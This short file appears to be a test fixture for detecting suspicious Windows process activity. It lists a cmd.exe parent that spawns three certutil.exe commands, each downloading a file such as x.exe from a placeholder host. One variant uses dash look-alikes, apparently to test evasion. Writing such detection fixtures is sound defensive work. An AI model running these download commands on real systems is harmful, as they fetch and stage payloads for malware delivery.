os windows
900 4 ana - C:\Windows\System32\cmd.exe | cmd
+ 901 900 ana - C:\Windows\System32\certutil.exe | certutil -urlcache -split -f http://10.0.0.1/x.exe x.exe
+ 902 900 ana - C:\Windows\System32\certutil.exe | certutil.exe /verifyctl /f /split https://example.org/x
+ 903 900 ana - C:\Windows\System32\certutil.exe | certutil –urlcache –f http://10.0.0.1/x x
